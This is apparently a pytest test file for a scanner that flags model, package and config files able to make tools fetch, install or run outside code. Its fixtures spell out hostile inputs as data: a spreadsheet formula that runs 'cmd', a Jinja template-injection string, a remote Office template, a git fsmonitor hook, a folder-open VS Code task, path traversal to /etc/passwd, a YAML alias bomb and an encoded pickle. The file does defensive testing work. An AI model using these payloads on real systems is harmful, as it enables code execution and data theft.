"""Texts by which tools fetch, install, load or run what somebody chose; and ordinary ones."""

from __future__ import annotations

import json
import pickle
from base64 import b64encode, urlsafe_b64encode

import pytest

from tests.unit.scanning.building import look_at, rules, unsafe
from workbench.findings.finding import Level
from workbench.findings.scan import Outcome
from workbench.scanning.recipes import leads_outside

FLOW = "flavors:\n  python_function:\n    model_path: {}\n"
TEXTS = {
    "an index": ("--index-url http://x.example/simple\ntorch\n", "install-source"),
    "a further index": ("torch\n--extra-index-url=https://x.example/\n", "install-source"),
    "a short index": ("-i https://x.example/simple\n", "install-source"),
    "a repository": ("git+https://x.example/y.git\n", "install-source"),
    "an editable one": ("-e git+ssh://git@x.example/y.git#egg=y\n", "install-source"),
    "a file by address": ("torch @ http://pypi.org.x.example/t.whl\n", "install-source"),
    "a file from here": ("torch[cpu] @ file:///tmp/t.whl\n", "install-source"),
    "pip in conda": (
        "name: m\ndependencies:\n- pip:\n  - --extra-index-url http://x.example\n",
        "install-source",
    ),
    "a channel": ("channels: [http://x.example/c]\n", "install-source"),
    "a channel below": ("channels:\n  - defaults\n  - https://x.example/c\n", "install-source"),
    "a project of MLflow": ("entry_points:\n  main:\n    command: 'rm x'\n", "program"),
    "a model elsewhere": (FLOW.format("../../m.pkl"), "outside-data"),
    "a model from the root": (FLOW.format("/srv/m.pkl"), "outside-data"),
    "a model by address": (FLOW.format("'https://x.example/m'"), "outside-data"),
    "an environment elsewhere": (
        "flavors:\n  python_function:\n    env: {conda: ../conda.yaml}\n",
        "outside-data",
    ),
    "parts of parts": (
        "".join(
            f"{name}: &{name} [{','.join(['*' + before] * 9)}]\n"
            for before, name in zip("abcdef", "bcdefg", strict=True)
        ),
        "alias-bomb",
    ),
    "a definition from elsewhere": (
        "<?xml version='1.0'?><!DOCTYPE PMML SYSTEM 'http://127.0.0.1/x.dtd'><PMML/>",
        "xml-entities",
    ),
    "a template of an office program": (
        "<Relationships><Relationship Type='http://x/attachedTemplate' "
        "Target='http://x/evil.dotm' TargetMode='External'/></Relationships>",
        "outside-data",
    ),
    "a setting of git": ("[core]\n\tbare = true\n\tfsmonitor = ./x\n", "program"),
    "a formula": ("name,score\n=cmd|'/C calc'!A0,1\n", "formula"),
    "a formula in quotes": ('a,b\n1,"+MSEXCEL|x"\n', "formula"),
    "a template": ('target: "{{ cycler.__init__.__globals__ }}"\n', "template"),
}


@pytest.mark.parametrize(("text", "rule"), TEXTS.values(), ids=TEXTS.keys())
def test_what_tools_would_fetch_or_run_is_refused(text: str, rule: str) -> None:
    unsafe(text.encode(), rule)
    unsafe((text + "# words\n" * 140_000).encode(), rule)


def test_ordinary_recipes_are_safe() -> None:
    for text in (
        "numpy>=1.26\ntorch==2.4.0 ; python_version > '3.9'\n# -i is said in words\n",
        "name: m\nchannels:\n  - conda-forge\n  - defaults\ndependencies:\n  - pip:\n    - skops\n",
        "artifact_path: model\n" + FLOW.format("model.pkl") + "    env: {conda: conda.yaml}\n",
        "base: &base {lr: 0.1}\na: *base\nb: *base\n",
        "<?xml version='1.0'?><!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' "
        "'http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd'><svg/>",
        "<Relationship Type='http://x/hyperlink' Target='http://x' TargetMode='External'/>",
        "[core]\n\tbare = true\n\tfsmonitor = true\n",
        "steps: !!python/tuple [1, 2]\n",
        "name,score\n-1.5,+2\n=SUM(A1:A2),3\n",
        "| cmd | what it does |\n|---|---|\n- cmd | more\n",
        "# Install\n\npip install -i https://x.example/simple torch\n",
    ):
        found = look_at(text.encode())
        assert found.outcome is not Outcome.unsafe, (text, found)
        assert rules(found) <= {"settings-known-code"}, (text, found)


def test_programs_by_their_names() -> None:
    for name in ("Makefile", "sub/Dockerfile", ".envrc", "rules.mk", "a/startup.m", "x.py"):
        unsafe(b"all:\n\techo\n", "program", name)
    for name in ("makefile.txt", "data", "notes.md"):
        assert look_at(b"all:\n\techo\n", name).outcome is Outcome.safe


def test_known_sources_are_a_concern() -> None:
    for text in (
        "--extra-index-url https://download.pytorch.org/whl/cpu\ntorch\n",
        "transformers @ git+https://github.com/huggingface/transformers@v4.44.0\n",
        "a,b\n=WEBSERVICE(A1),2\n",
    ):
        found = look_at(text.encode())
        assert found.outcome is Outcome.safe
        assert [one.level for one in found.findings] == [Level.concern]


DOCUMENTS = {
    "shards elsewhere": ({"weight_map": {"a": "../../x.bin"}}, "outside-data"),
    "shards from the root": ({"weight_map": {"a": "/etc/passwd"}}, "outside-data"),
    "an adapter's library": (
        {"auto_mapping": {"base_model_class": "X", "parent_library": "os"}},
        "settings-code",
    ),
    "a task": ({"tasks": [{"command": "x", "runOptions": {"runOn": "folderOpen"}}]}, "program"),
}


@pytest.mark.parametrize(("value", "rule"), DOCUMENTS.values(), ids=DOCUMENTS.keys())
def test_documents_that_lead_elsewhere_are_refused(value: object, rule: str) -> None:
    unsafe(json.dumps(value).encode(), rule)


def test_ordinary_shards_and_adapters_are_safe() -> None:
    for value in (
        {"weight_map": {"a": "model-00001-of-00002.safetensors", "b": "sub/model.safetensors"}},
        {"auto_mapping": {"base_model_class": "X", "parent_library": "transformers.models.x"}},
    ):
        assert look_at(json.dumps(value).encode()).findings == ()


def test_paths() -> None:
    for name in ("a", "a/b", "a b/c..d", "./a"):
        assert not leads_outside(name), name
    for name in ("../a", "a/../b", "/a", "\\a", "a\\..\\b", "C:/a", "http://a", "~/a", ""):
        assert leads_outside(name), name


class Runs:
    def __reduce__(self) -> tuple[object, ...]:
        return print, ("x",)


def test_pickles_written_as_letters_are_found() -> None:
    """They are what a program that unpacks the text would open; others are just text."""
    data = pickle.dumps([Runs(), bytes(200)])
    for text in (
        b64encode(data),
        b"\n".join(b64encode(data)[i : i + 76] for i in range(0, 400, 76)),
        urlsafe_b64encode(data),
        data.hex().encode(),
        data.hex().upper().encode() + b"\n",
    ):
        unsafe(text, "polyglot")
    for text in (
        b64encode(bytes(range(256)) * 2),
        b"deadbeef" * 40,
        b64encode(pickle.dumps([1] * 99)),
    ):
        assert look_at(text).outcome is Outcome.safe
